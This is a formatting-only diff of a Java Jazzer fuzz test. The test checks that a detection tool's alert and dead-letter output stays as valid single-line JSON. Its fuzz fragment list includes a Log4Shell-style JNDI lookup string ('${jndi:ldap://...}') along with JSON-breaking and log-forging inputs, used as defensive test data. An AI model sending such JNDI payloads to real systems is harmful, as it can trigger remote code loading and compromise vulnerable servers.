@@ -3,7 +3,6 @@ package io.github.rcdetect.output;
 import com.code_intelligence.jazzer.api.FuzzedDataProvider;
 import com.code_intelligence.jazzer.junit.FuzzTest;
 import com.fasterxml.jackson.databind.JsonNode;
-import io.github.rcdetect.output.AlertDocument;
 import io.github.rcdetect.event.ActivityEvent;
 import io.github.rcdetect.event.DeadLetter;
 import io.github.rcdetect.event.ErrorType;
@@ -11,8 +10,8 @@ import io.github.rcdetect.event.EventStream;
 import io.github.rcdetect.event.LateRecord;
 import io.github.rcdetect.event.Origin;
 import io.github.rcdetect.event.ProcessEvent;
-import io.github.rcdetect.testing.LogSinkCapture;
 import io.github.rcdetect.testing.Alerts;
+import io.github.rcdetect.testing.LogSinkCapture;
 import io.github.rcdetect.testing.OutputLines;
 
 import org.junit.jupiter.api.Timeout;
@@ -28,8 +27,23 @@ import java.util.List;
 class OutputLinesFuzzTest {
     /** Fragments that make text look like JSON, a log line or a lookup, so the fuzzer reaches them sooner. */
     private static final String[] FRAGMENTS = {
-        "\"}, {\"rule\":{\"id\":\"R9\"}}", "\\", "\"", "\n", "\r\n", "\u2028", "\u2029", "\u0085", "\u0000", "\u001b[31m",
-        "${jndi:ldap://198.51.100.1/a}", "\\u0000", "\uD800", "\uDC00", "\uFEFF", "\u202E", "\uD83D\uDE00",
+        "\"}, {\"rule\":{\"id\":\"R9\"}}",
+        "\\",
+        "\"",
+        "\n",
+        "\r\n",
+        "\u2028",
+        "\u2029",
+        "\u0085",
+        "\u0000",
+        "\u001b[31m",
+        "${jndi:ldap://198.51.100.1/a}",
+        "\\u0000",
+        "\uD800",
+        "\uDC00",
+        "\uFEFF",
+        "\u202E",
+        "\uD83D\uDE00",
         "2026-03-10 10:00:00,000 WARN  LogSink - dead letter {",
     };
 
@@ -60,8 +74,11 @@ class OutputLinesFuzzTest {
         process.parentCommandLine = text(data);
         process.parentArgs = new String[] {text(data)};
         process.eventId = text(data);
-        process.origin =
-                Origin.ofKafka(EventStream.PROCESS, text(data), data.consumeInt(0, Integer.MAX_VALUE), data.consumeLong(0, Long.MAX_VALUE));
+        process.origin = Origin.ofKafka(
+                EventStream.PROCESS,
+                text(data),
+                data.consumeInt(0, Integer.MAX_VALUE),
+                data.consumeLong(0, Long.MAX_VALUE));
 
         AlertDocument r2 = Alerts.ofProcess("R2", process);
         JsonNode r2Alert = OutputLines.parseOneAsciiLine(r2.json);
@@ -80,13 +97,12 @@ class OutputLinesFuzzTest {
         expect(r1Alert, "/azure_runcommand/source_events/0/file", runCommand.origin.file);
 
         byte[] original = data.consumeBytes(data.consumeInt(0, 512));
-        DeadLetter deadLetter =
-                DeadLetter.of(
-                        ErrorType.INVALID_JSON,
-                        text(data),
-                        Origin.ofFile(EventStream.PROCESS, text(data), 1).withRecordIndex(data.consumeInt(0, 1000)),
-                        original,
-                        original.length + data.consumeInt(0, 1000));
+        DeadLetter deadLetter = DeadLetter.of(
+                ErrorType.INVALID_JSON,
+                text(data),
+                Origin.ofFile(EventStream.PROCESS, text(data), 1).withRecordIndex(data.consumeInt(0, 1000)),
+                original,
+                original.length + data.consumeInt(0, 1000));
         String deadLetterLine = OutputDocuments.deadLetter(deadLetter);
         JsonNode deadLetterDocument = OutputLines.parseOneAsciiLine(deadLetterLine);
         expect(deadLetterDocument, "/error/message", deadLetter.errorMessage);
